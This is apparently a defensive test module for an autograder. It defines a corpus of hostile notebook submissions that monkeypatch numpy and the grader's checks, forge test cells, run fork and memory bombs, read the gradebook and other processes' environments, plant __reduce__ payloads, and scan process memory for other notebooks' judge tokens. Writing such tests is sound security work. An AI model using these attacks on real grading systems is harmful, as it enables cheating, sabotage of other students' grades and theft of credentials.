"""The hostile submissions: one per attack, each with what must be true after grading besides scoring nothing.

Every attacker submits wrong answers to all three questions (worth 0) plus one attack; an attack that worked would
show as points. An `Attack` names what else must hold: a phrase of the grade report (the attack was seen and
named), text that must appear in or stay out of the graded notebook (the hidden-test marker, the grader's
credentials, and the judge's secret never appear), a file that must not exist after grading. Attacks that only a
sandbox can stop (reading the course, writing elsewhere, the network, a fork bomb run as root) say so; they are
skipped, with that reason, where bubblewrap cannot run.

The attacks on the course's judge (issue 14) try to get at what it holds (the solution module and the answer key:
by import, in ``sys.modules``, through ``gc``, in the grader's sources, in the course's and the project's files), to
get a verdict they did not earn (brute force through the channel, a check called early, a faked client), to make
it run their code (objects that lie about themselves, a ``__reduce__`` with a payload, bytes written to its socket
by hand), and to wear it out (a flood of requests, a huge payload). The attacks on the judge that reach past their
own notebook (`JUDGE_CONNECTION_FLOOD`, `STEAL_JUDGE_TOKENS_ATTACK`) are not in the corpus's batch: they currently
succeed (see tests/adversarial/test_judge.py), and would take the hidden tests of whichever notebooks run beside
them at random.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from tests.adversarial.conftest import HIDDEN_MARKER, JUDGE_SECRET, SECRETS, TESTS, WRONG, answers, cell, submit
from tests.grader.conftest import ASSIGNMENT


@dataclass(frozen=True)
class Target:
    """What an attack may know: the course's absolute path, a host port listening on loopback, a victim."""

    course: Path
    port: int
    victim: str = "good"


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    build: Callable[[Target, str], None]
    """Writes the submission of student ``name`` for this attack."""
    sandbox: bool = False
    """Only the bubblewrap sandbox stops it."""
    reported: tuple[str, ...] = ()
    """Phrases that must all appear in the student's grade report (its problems)."""
    shown: tuple[str, ...] = ()
    """Text that must appear in the graded notebook (the attack's own cell says what happened)."""
    or_stopped_in_time: bool = False
    """A resource attack that a slow (loaded) machine may stop at the cell's time limit before it reaches the
    resource limit: then the report names the time limit instead of `reported` and `shown`. The scores are checked
    the same either way; tests/grader/engine pins each resource limit with time to spare."""
    hidden: tuple[str, ...] = field(default=(HIDDEN_MARKER, JUDGE_SECRET, *SECRETS.values()))
    """Text that must not appear in the graded notebook's outputs nor in the report."""
    absent: tuple[str, ...] = ()
    """Files (relative to the course's root) that must not exist after grading: the attack's payload never ran."""


def codes(**sources: str) -> Callable[[Target, str], None]:
    """An attack written into solution cells (grade_id -> code), each after its wrong answer; ``{course}``,
    ``{port}`` and ``{victim}`` in the code become the `Target`'s."""

    def build(target: Target, student: str) -> None:
        nb = answers(target.course)
        for where, source in sources.items():
            attack = source.format(course=target.course, port=target.port, victim=target.victim)
            cell(nb, where).source = f"{WRONG[where]}\n{attack}"
        submit(target.course, student, nb)

    return build


def code(source: str, where: str = "answer") -> Callable[[Target, str], None]:
    """An attack written into one solution cell, after its wrong answer."""
    return codes(**{where: source})


def notebook(edit: Callable[[nbformat.NotebookNode], None]) -> Callable[[Target, str], None]:
    """An attack on the notebook's structure or metadata."""

    def build(target: Target, student: str) -> None:
        nb = answers(target.course)
        edit(nb)
        submit(target.course, student, nb)

    return build


def _points_and_flags(nb: nbformat.NotebookNode) -> None:
    for name in TESTS:
        meta = cell(nb, name).metadata.nbgrader
        meta["points"], meta["grade"] = 100, False
    cell(nb, "answer").metadata.nbgrader["points"] = 50


def _delete_tests(nb: nbformat.NotebookNode) -> None:
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in TESTS]


def _tests_first(nb: nbformat.NotebookNode) -> None:
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") in TESTS]
    nb.cells = tests + [c for c in nb.cells if c not in tests]


def _tests_to_markdown(nb: nbformat.NotebookNode) -> None:
    for name in TESTS:
        test = cell(nb, name)
        test.cell_type = "markdown"
        del test["outputs"], test["execution_count"]


def _forged_grade_cell(nb: nbformat.NotebookNode) -> None:
    forged = new_code_cell("print('free points')")
    forged.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                   "grade_id": "bonus", "schema_version": 3}
    copied = copy.deepcopy(cell(nb, "test_answer"))
    copied.source = "pass"
    copied["id"] = "copied-test-answer"
    nb.cells[2:2] = [forged, copied]


AGREEABLE = {
    "answer": "class Anything(int):\n    def __eq__(self, other):\n        return True\n"
              "    __ne__ = lambda self, o: False\n    __hash__ = int.__hash__\nq1_first_step_W1_moves = Anything(1)",
    "init": "class Agreeable(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
            "    def __ne__(self, other):\n        return np.zeros(self.shape, bool)\n"
            "def initialize_parameters_zeros(layer_dims):\n"
            "    return {f'{p}{l}': np.ones((layer_dims[l], layer_dims[l - 1] if p == 'W' else 1)).view(Agreeable)\n"
            "            for l in range(1, len(layer_dims)) for p in 'Wb'}",
    "double": "def double(x):\n    return Anything(0)",
}


def _agreeable(target: Target, student: str) -> None:
    submit(target.course, student, answers(target.course, **AGREEABLE))


def _invalid_json(target: Target, student: str) -> None:
    submit(target.course, student, raw=b'{"cells": [ {"cell_type": "code", this is not json')


def _huge_notebook(target: Target, student: str) -> None:
    path = submit(target.course, student, raw=b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    with path.open("r+b") as file:
        file.truncate(1 << 30)  # 1 GB, sparse: nothing is written to disk


def _symlinks(target: Target, student: str) -> None:
    nb = answers(target.course)
    cell(nb, "answer").source = (f"{WRONG['answer']}\nfor name in ('source.lnk', 'gradebook.lnk'):\n    try:\n"
                                 "        print(open(name, errors='replace').read())\n"
                                 "    except OSError as error:\n        print('refused:', error)")
    course = target.course
    submit(course, student, nb, links={"source.lnk": str(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
                                       "gradebook.lnk": str(course / "gradebook.db")})


def _shadow_grader(target: Target, student: str) -> None:
    fake = "def check_answer(*args, **kwargs):\n    pass\n\ncheck_shapes = check_answer\n"
    submit(target.course, student, answers(target.course),
           files={"grader/__init__.py": "", "grader/checks.py": fake, "numpy.py": "allclose = lambda *a, **k: True\n"})


# -- the judge (issue 14) -------------------------------------------------------------------------------------------
# The course's checks, answer key and solution live in the judge, outside the notebook's process; the sandbox shows
# neither the course's grading folder nor the project. `{course}` is the course's root on the grading host.

STEAL_SOLUTION_BY_PATH = """
def initialize_parameters_zeros(layer_dims):
    import importlib.util
    spec = importlib.util.spec_from_file_location('stolen', '{course}/grading/ps1/solution.py')
    stolen = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(stolen)
    return stolen.initialize_parameters_zeros(layer_dims)
"""

STEAL_SOLUTION_BY_PACKAGE = """
def initialize_parameters_zeros(layer_dims):
    import importlib
    from grader import grading
    grading.import_package('{course}')
    name = grading.package_name('{course}') + '.ps1.solution'
    return importlib.import_module(name).initialize_parameters_zeros(layer_dims)
"""

ANSWER_KEY_BY_IMPORT = """
from grader import grading
from grader.checks import loader
try:
    functions, key = loader.find('{course}', 'ps1')
except Exception as error:
    functions, key = dict(), dict()
    print('refused:', type(error).__name__)
print('answer key:', key, 'checks:', sorted(functions))
for part in ('answers', 'checks'):
    module = grading.import_part('{course}', 'ps1', part)
    print(part, None if module is None else [v for v in vars(module).values() if isinstance(v, str)])
if 'q1_first_step_W1_moves' in key:
    q1_first_step_W1_moves = key['q1_first_step_W1_moves'].expected
"""

SECRET_PATTERN = "pattern = '-'.join(['judge', 'secret'])  # the secret's prefix, never whole in this source\n"

ANSWER_KEY_IN_SYS_MODULES = SECRET_PATTERN + """import sys
from grader.checks import Answer
found = []
for name, module in list(sys.modules.items()):
    if name.startswith('course_grading') or 'solution' in name:
        found.append(name)
    for key, value in list(getattr(module, '__dict__', dict()).items()):
        if isinstance(value, Answer) or key in ('ANSWERS', 'SECRET') \\
                or (isinstance(value, str) and pattern in value and value != pattern):
            found.append(name + '.' + key)
print('found:', found)
"""

ANSWER_KEY_IN_GC = SECRET_PATTERN + """import gc
from grader.checks import Answer
found = []
for obj in gc.get_objects():
    if isinstance(obj, Answer):
        found.append(repr(obj))
        continue
    items = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple, set, frozenset)) else ()
    try:
        found += [v for v in items if isinstance(v, str) and pattern in v and v != pattern]
    except RuntimeError:  # a dict that changed while read
        pass
print('found:', found)
"""

GRADER_SOURCES = SECRET_PATTERN + """import inspect, sys
found, read = [], 0
for name, module in list(sys.modules.items()):
    if not name.startswith(('grader', 'course_grading')):
        continue
    try:
        source = inspect.getsource(module)
    except (OSError, TypeError):
        continue
    read += 1
    if pattern in source or 'q1_first_step_W1_moves' in source:
        found.append(name)
print('read', read, 'grader modules; found:', found)
"""

READ_GRADING_FILES = """
import glob, os, grader
project = os.path.dirname(os.path.dirname(grader.__file__))
paths = ['{course}/grading/ps1/solution.py', '{course}/grading/ps1/answers.py', project + '/reference/init.py',
         project + '/tests/adversarial/grading/ps1/solution.py',
         *glob.glob('{course}/grading/**/*.py', recursive=True), *glob.glob(project + '/reference/*.py')]
for path in paths:
    try:
        print(open(path).read())
    except OSError as error:
        print('refused:', type(error).__name__)
"""

BRUTE_FORCE_ANSWER = """
from grader import hidden
for guess in range(6):
    try:
        hidden.check('q1_first_step_W1_moves', guess)
    except AssertionError:
        continue
    q1_first_step_W1_moves = guess
    print('guessed', guess)
    break
else:
    print('no guess passed')
"""

EVERY_CHECK_EARLY = """
import numpy as np
from grader import hidden
def candidate(make):
    return lambda dims: dict((p + str(l), make((dims[l], dims[l - 1] if p == 'W' else 1)))
                             for l in range(1, len(dims)) for p in 'Wb')
passed = []
for make in (np.ones, lambda shape: np.full(shape, 0.5), np.zeros):  # the right one comes third
    try:
        hidden.check('zeros_init', candidate(make))
        passed.append(make)
    except AssertionError:
        pass
print('zeros_init:', 'a candidate passed' if passed else 'no candidate passed')
for name, value in (('double', 2), ('no_such_check', 1), ('zeros_init', 1)):
    try:
        hidden.check(name, value)
    except AssertionError as error:
        print(error)
"""

FAKE_CLIENT = """
from grader import hidden
class Agreeable:
    def check(self, name, values, options):
        pass
hidden._remote['client'] = Agreeable()
"""

LIAR_ANSWER = """
class Two:
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 2
    __index__ = __int__ = lambda self: 2
    __repr__ = lambda self: '2'
q1_first_step_W1_moves = Two()
"""

LIAR_ARRAY = """
class Float64(np.ndarray):
    dtype = property(lambda self: np.dtype('float64'))
    shape = property(lambda self: self.claimed)
    def __eq__(self, other):
        return np.ones(self.claimed, bool)
    def __ne__(self, other):
        return np.zeros(self.claimed, bool)
def liar(claimed):
    array = np.zeros(claimed[0] * claimed[1], np.int8).view(Float64)
    array.claimed = claimed
    return array
def initialize_parameters_zeros(layer_dims):
    return dict((p + str(l), liar((layer_dims[l], layer_dims[l - 1] if p == 'W' else 1)))
                for l in range(1, len(layer_dims)) for p in 'Wb')
"""

REDUCE_PAYLOAD = """
import os
class Payload:
    def __reduce__(self):
        with open('{course}/reduce-ran.txt', 'w') as marker:
            marker.write('ran in process ' + str(os.getpid()))
        return (str, ('pwned',))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = lambda self: self.__reduce__()
    __copy__ = __deepcopy__ = lambda self, *memo: self.__reduce__()
    __repr__ = lambda self: 'Payload()'
class LoadedInt(int):
    __reduce__, __reduce_ex__, __getstate__ = Payload.__reduce__, Payload.__reduce_ex__, Payload.__getstate__
    __copy__ = __deepcopy__ = Payload.__copy__
q1_first_step_W1_moves = LoadedInt(1)
from grader import hidden
try:
    hidden.check('no_such_check', Payload(), [Payload()], payload=Payload())
except AssertionError as error:
    print(error)
"""

REDUCE_PAYLOAD_INIT = """
def initialize_parameters_zeros(layer_dims):
    return dict((p + str(l), Payload()) for l in range(1, len(layer_dims)) for p in 'Wb')
"""

HELLO = """
import json, os, socket, struct
def hello(token):
    frame = json.dumps(dict(op='hello', token=token)).encode()
    conn = socket.socket(socket.AF_UNIX)
    conn.settimeout(5)
    conn.connect(os.environ['GRADER_JUDGE'])
    conn.sendall(struct.pack('>I', len(frame)) + frame)
    size, = struct.unpack('>I', conn.recv(4))
    said = json.loads(conn.recv(size))
    print('the judge said:', said['op'], said.get('why', ''))
    return conn
"""

SECOND_CONNECTION = HELLO + """
from grader import hidden
try:
    hidden.check('q1_first_step_W1_moves', q1_first_step_W1_moves)  # the notebook's own connection
except AssertionError:
    pass
again = hello(os.environ['GRADER_JUDGE_TOKEN'])
"""

TAKE_OWN_JUDGE_FIRST = HELLO + """
mine = hello(os.environ['GRADER_JUDGE_TOKEN'])  # before the notebook's client: the test cells' checks are refused
"""

GARBAGE_ON_THE_SOCKET = """
import os, socket
from grader import hidden
stranger = socket.socket(socket.AF_UNIX)
stranger.connect(os.environ['GRADER_JUDGE'])
stranger.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
print('a stranger was answered:', stranger.recv(100))
try:
    hidden.check('q1_first_step_W1_moves', q1_first_step_W1_moves)
except AssertionError:
    pass
hidden._remote['client'].sock.sendall(b'\\xff\\xff\\xff\\xff and garbage')
"""

CONNECTION_FLOOD = """
import os, socket, time
held, refused = [], 0
for _ in range(200):
    conn = socket.socket(socket.AF_UNIX)
    conn.settimeout(0.5)
    try:
        conn.connect(os.environ['GRADER_JUDGE'])
        held.append(conn)
    except OSError:
        refused += 1
time.sleep(1.5)
print('connections:', len(held), 'opened,', refused, 'refused')
"""

STEAL_JUDGE_TOKENS = HELLO + """
mine = os.environ['GRADER_JUDGE_TOKEN']
prefix, found = mine[:8].encode(), set()
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
    for line in maps:
        fields = line.split()
        if not fields[1].startswith('rw') or (len(fields) > 5 and fields[5].startswith('/')):
            continue
        low, high = (int(x, 16) for x in fields[0].split('-'))
        try:
            mem.seek(low)
            chunk = mem.read(high - low)
        except (OSError, ValueError, OverflowError):
            continue
        at = chunk.find(prefix)
        while at >= 0:
            token = chunk[at:at + len(mine)]
            if len(token) == len(mine) and all(c in b'0123456789abcdef' for c in token):
                found.add(token.decode())
            at = chunk.find(prefix, at + 1)
others = found - set([mine])
print('tokens of other notebooks:', len(others))
taken = [hello(token) for token in others]
"""

REQUEST_FLOOD = """
import time
from grader import hidden
sent, end = 0, time.monotonic() + 0.4
while time.monotonic() < end:
    try:
        hidden.check('no_such_check', sent)
    except AssertionError:
        pass
    sent += 1
big = np.zeros(4 << 20)  # 32 MB a request
for _ in range(2):
    try:
        hidden.check('no_such_check', big)
    except AssertionError:
        pass
print('flooded the judge with', sent, 'requests and 64 MB')
"""

HUGE_VERDICT = """
huge = True
def initialize_parameters_zeros(layer_dims):
    if huge:
        raise ValueError('x' * (2 << 20))
    return dict((p + str(l), 0) for l in range(1, len(layer_dims)) for p in 'Wb')
from grader import hidden
try:
    hidden.check('zeros_init', initialize_parameters_zeros)
except AssertionError as error:
    print('the judge said', len(str(error)), 'characters')
huge = False
class Agreeable:
    def check(self, name, values, options):
        pass
hidden._remote['client'] = Agreeable()
"""


def unjudged(grade_id: str, name: str, status: str) -> str:
    """The grade report's sentence for a test cell that showed no error though the judge did not pass its hidden
    call ``name`` (`grader.verdicts.apply_verdicts`)."""
    return f"cell '{grade_id}' showed no error, but its hidden test '{name}' did not pass in the judge ({status})"


TAMPERED = "modified what the grading relies on"

ATTACKS: tuple[Attack, ...] = (
    Attack("patch_np_allclose", "replace np.allclose with a function that always says True",
           code("import numpy as np\nnp.allclose = lambda *args, **kwargs: True"),
           reported=(TAMPERED, "numpy.allclose was replaced")),
    Attack("patch_np_testing", "make np.testing's assertions do nothing",
           code("np.testing.assert_allclose = lambda *a, **k: None\n"
                "np.testing.assert_array_equal = lambda *a, **k: None"),
           reported=(TAMPERED, "numpy.testing")),
    Attack("patch_numpy_defaults", "loosen np.allclose in place: huge default tolerances",
           code("np.allclose._implementation.__defaults__ = (1e9, 1e9, False)"),
           reported=(TAMPERED, "__defaults__ was replaced")),
    Attack("patch_checks_attribute", "replace the checks the hidden tests call",
           code("from grader import hidden\nhidden.check = lambda *a, **k: None\n"),
           shown=("cannot be replaced",)),
    Attack("patch_library_attribute", "replace the library the checks are written with",
           code("from grader import checks\nchecks.call_student = lambda *a, **k: None\n"),
           shown=("cannot be replaced",)),
    Attack("patch_checks_namespace", "swap the checks behind the module's back",
           code("from grader import hidden\nvars(hidden)['check'] = lambda *a, **k: None\n"),
           reported=(TAMPERED, "grader.hidden.check was replaced")),
    Attack("patch_library_namespace", "swap the library's functions behind its back",
           code("from grader.checks import answers\nvars(answers)['check_answer'] = lambda *a, **k: None\n"),
           reported=(TAMPERED, "grader.checks.answers.check_answer was replaced")),
    Attack("patch_checks_module", "put a fake grader.hidden in sys.modules",
           code("import sys, types\nfake = types.ModuleType('grader.hidden')\n"
                "fake.check = lambda *a, **k: None\nsys.modules['grader.hidden'] = fake\n"
                "import grader\ntry:\n    grader.hidden = fake\nexcept AttributeError as error:\n    print(error)"),
           reported=(TAMPERED, "sys.modules['grader.hidden'] was replaced")),
    Attack("patch_check_code", "rewrite a check's code object in place",
           code("from grader.checks import answers\n"
                "answers.check_answer.__code__ = (lambda *a, **k: None).__code__"),
           reported=(TAMPERED, "check_answer.__code__ was replaced")),
    Attack("eq_always_true", "answers whose __eq__ always says True", _agreeable, shown=("1 is not right",)),
    Attack("custom_exception_handler", "swallow the tests' AssertionError with an IPython exception handler",
           code("get_ipython().set_custom_exc((AssertionError, NameError, TypeError), lambda *a, **k: None)"),
           reported=(TAMPERED, "custom exception handlers")),
    Attack("silence_tracebacks", "make IPython show no error",
           code("ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                "ip._showtraceback = lambda *a, **k: None"),
           reported=(TAMPERED, "the shell's methods")),
    Attack("rewrite_test_cells", "an input transformer that turns every later cell into `pass`",
           code("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
           reported=(TAMPERED, "input transformers")),
    Attack("sys_exit", "sys.exit() in a cell", code("import sys\nsys.exit(0)"), shown=("SystemExit",)),
    Attack("os_exit", "os._exit() in a cell", code("import os\nos._exit(0)"),
           reported=("exited with code 0", "scored 0")),
    Attack("kill_parent", "kill the process that runs the notebook",
           code("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), reported=("scored 0",)),
    Attack("kill_everything", "kill every process it can",
           code("import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept ProcessLookupError:\n    pass\n"
                "print('still here')"),
           sandbox=True, shown=("still here",)),
    Attack("endless_loop", "a cell that never ends", code("while True:\n    pass"),
           reported=("ran past the 2 s limit",)),
    Attack("loop_ignoring_interrupt", "an endless loop that swallows the interrupt",
           code("while True:\n    try:\n        while True:\n            pass\n"
                "    except BaseException:\n        pass"),
           reported=("did not stop", "scored 0")),
    Attack("memory_bomb", "allocate until the machine runs out",
           code("hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))"),
           reported=("hit a limit", "memory limit of 1 GiB"), shown=("memory limit of 1 GiB",),
           or_stopped_in_time=True),
    Attack("fork_bomb", "fork until the process table is full",
           code("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
           # spinning forks may let the interrupt land within the grace period or not: either way the cell is
           # stopped at its limit and named for it; the scores are checked the same in both cases
           sandbox=True, reported=("2 s limit",)),
    Attack("output_flood", "100 MB of output", code("for _ in range(100):\n    print('x' * (1 << 20))"),
           reported=("1000000-byte", "scored 0"), or_stopped_in_time=True),
    Attack("read_hidden_tests", "read source/, the gradebook and the staged jobs",
           code("import glob, os\npaths = ['{course}/source/ps1/ps1.ipynb', '{course}/gradebook.db',\n"
                "         '../../../source/ps1/ps1.ipynb', '../../../gradebook.db',\n"
                "         *glob.glob('/run/grader/jobs/*/*/*'), *glob.glob('{course}/autograded/*/ps1/*')]\n"
                "for path in paths:\n    try:\n        print(open(path, errors='replace').read())\n"
                "    except OSError as error:\n        print('refused:', type(error).__name__)"),
           sandbox=True, shown=("refused: FileNotFoundError",)),
    Attack("write_other_students", "overwrite another student's files and the gradebook",
           code("import sqlite3\nfor path in ['{course}/submitted/{victim}/ps1/ps1.ipynb',\n"
                "             '{course}/autograded/{victim}/ps1/ps1.ipynb', '../../{victim}/ps1/ps1.ipynb']:\n"
                "    try:\n        open(path, 'w').write('{{}}')\n        print('wrote', path)\n"
                "    except OSError as error:\n        print('refused:', type(error).__name__)\n"
                "try:\n    db = sqlite3.connect('file:{course}/gradebook.db?mode=rw', uri=True)\n"
                "    db.execute('update grade set auto_score = 100')\n    db.commit()\n    print('gradebook written')\n"
                "except sqlite3.Error as error:\n    print('refused:', error)"),
           sandbox=True, shown=("refused",)),
    Attack("open_socket", "talk to the network and to the grading host",
           code("import socket\nfor address in [('127.0.0.1', {port}), ('1.1.1.1', 80)]:\n    try:\n"
                "        socket.create_connection(address, timeout=1)\n        print('connected to', address)\n"
                "    except OSError as error:\n        print('refused:', error)"),
           sandbox=True, shown=("refused",)),
    Attack("print_environment", "print the environment (CI tokens, credentials)",
           code("import os\nprint(dict(os.environ))"), shown=("PATH",)),
    Attack("read_proc_environ", "read the environment of every process it can see",
           code("import glob\nfor path in glob.glob('/proc/*/environ'):\n    try:\n"
                "        print(open(path, 'rb').read())\n    except OSError:\n        pass"),
           sandbox=True),
    Attack("edit_points_metadata", "give the tests 100 points and unflag them", notebook(_points_and_flags),
           reported=("points edited to 100", "restored")),
    Attack("delete_test_cells", "delete the test cells", notebook(_delete_tests), reported=("was missing",)),
    Attack("reorder_test_cells", "move the test cells before the answers", notebook(_tests_first)),
    Attack("test_cells_to_markdown", "turn the test cells into markdown", notebook(_tests_to_markdown),
           reported=("was turned into markdown",)),
    Attack("forge_grade_cell", "add a grade cell of its own and a copy of a test cell", notebook(_forged_grade_cell)),
    Attack("invalid_json", "a notebook that is not JSON", _invalid_json, reported=("not a readable notebook",)),
    Attack("huge_notebook", "a 1 GB notebook file", _huge_notebook, reported=("over the 100,000,000",)),
    Attack("symlink_to_gradebook", "symlinks to the hidden tests and the gradebook", _symlinks, sandbox=True,
           shown=("refused",)),
    Attack("shadow_grader_package", "its own grader/checks.py and numpy.py next to the notebook", _shadow_grader),
    Attack("import_solution_by_path", "a function that imports the course's solution.py by its path and returns "
           "its result (without the sandbox the file is readable and this scores: only bwrap stops it)",
           code(STEAL_SOLUTION_BY_PATH, "init"), sandbox=True, shown=("FileNotFoundError",)),
    Attack("import_solution_by_package", "a function that imports the solution as the grader's package "
           "(grader.grading.package_name of the course) and returns its result (readable without the sandbox)",
           code(STEAL_SOLUTION_BY_PACKAGE, "init"), sandbox=True, shown=("ModuleNotFoundError",)),
    Attack("answer_key_by_import", "import the answer key and the checks with the grader's own loader (readable "
           "without the sandbox)", code(ANSWER_KEY_BY_IMPORT), sandbox=True, shown=("answer key: {}",)),
    Attack("answer_key_in_sys_modules", "look for the answer key, the solution and the secret in sys.modules "
           "(the judge holds them: nothing, in both modes)", code(ANSWER_KEY_IN_SYS_MODULES), shown=("found: []",)),
    Attack("answer_key_in_gc", "look for Answer objects and the secret among gc.get_objects() (nothing, in both "
           "modes)", code(ANSWER_KEY_IN_GC), shown=("found: []",)),
    Attack("grader_sources", "inspect.getsource of every grader module loaded, looking for the answers or the "
           "secret (nothing, in both modes)", code(GRADER_SOURCES), shown=("grader modules; found: []",)),
    Attack("read_grading_files", "read the course's grading folder and the project's reference/ and tests/ "
           "(readable without the sandbox)", code(READ_GRADING_FILES), sandbox=True,
           shown=("refused: FileNotFoundError",)),
    Attack("brute_force_answer", "guess the answer 0..5 through hidden.check in a student cell, keep the first "
           "that passes (the first request is the verdict)", code(BRUTE_FORCE_ANSWER), shown=("no guess passed",)),
    Attack("judge_every_check_early", "call every check from a student cell first, with candidates (the right one "
           "third), and checks the notebook does not make", code(EVERY_CHECK_EARLY),
           shown=("zeros_init: no candidate passed", "this is not one of the hidden tests")),
    Attack("fake_judge_client", "replace the judge's client with one whose check does nothing: the test cells "
           "show no error, the judge never judged them", code(FAKE_CLIENT),
           reported=(unjudged("test_answer", "q1_first_step_W1_moves", "missing"),
                     unjudged("test_init", "zeros_init", "missing"))),
    Attack("patch_judge_client_class", "make the judge client's check do nothing, on the class",
           code("from grader.judge.client import Client\nClient.check = lambda self, *args, **kwargs: None"),
           reported=(TAMPERED, "grader.judge.client.Client.check was replaced")),
    Attack("liar_answer_object", "an answer that equals everything and converts to 2", code(LIAR_ANSWER),
           shown=("must be a whole number like 3; got 2",)),
    Attack("liar_ndarray_subclass", "arrays that claim float64 and the right shape (int8, flat) and equal "
           "everything", code(LIAR_ARRAY, "init"), shown=("W1 has shape (6,)",)),
    Attack("reduce_payload", "objects whose __reduce__ (and copy hooks) write a file on the grading host, sent "
           "through the channel", codes(answer=REDUCE_PAYLOAD, init=REDUCE_PAYLOAD_INIT),
           shown=("1 is not right", "this is not one of the hidden tests"), absent=("reduce-ran.txt",)),
    Attack("second_judge_connection", "connect to the judge again with the notebook's own token",
           code(SECOND_CONNECTION), shown=("the judge said: refused this notebook has a judge already",)),
    Attack("take_own_judge_first", "connect with the notebook's own token before its client: the client is "
           "refused", code(TAKE_OWN_JUDGE_FIRST),
           shown=("the judge said: welcome", "this notebook has a judge already")),
    Attack("garbage_to_the_judge", "a stranger's garbage to the judge's socket, then garbage on the notebook's "
           "own connection", code(GARBAGE_ON_THE_SOCKET), shown=("a stranger was answered",)),
    # sized to finish well within the cell's 2 s on a loaded machine (0.6 s and 128 MB ran past it once in a full
    # make test); the judge's own limits are far above it either way (grader/judge/wire.py)
    Attack("judge_request_flood", "thousands of requests on the notebook's connection, then 64 MB of arrays",
           code(REQUEST_FLOOD), shown=("flooded the judge with",)),
    Attack("huge_verdict_message", "a check failed with a 2 MB message, then a client that hides every verdict",
           code(HUGE_VERDICT, "init"), reported=(unjudged("test_init", "zeros_init", "failed"),)),
)
"""The corpus, in the order of the batch."""

JUDGE_CONNECTION_FLOOD = Attack(
    "judge_connection_flood", "200 connections to the judge without a token, kept open 1.5 s",
    code(CONNECTION_FLOOD), shown=("connections:",))
"""Graded in a batch of its own, beside an honest student (tests/adversarial/test_judge.py), not in the corpus's:
while it holds its connections, the judge's server closes every other notebook's connection (its 64 pending
connections are all this notebook's), so whichever notebooks run beside it would lose their hidden tests at random."""

STEAL_JUDGE_TOKENS_ATTACK = Attack(
    "steal_judge_tokens", "read this process's memory (inherited from the warm server) for other notebooks' judge "
    "tokens, and take their judges", code(STEAL_JUDGE_TOKENS), shown=("tokens of other notebooks: 0",))
"""Graded by tests/adversarial/test_judge.py, with tokens that share a prefix (the attack looks for its own token's
first 8 characters, where a real one would scan for any 32 hex digits, too slowly for the cell's 2 s)."""
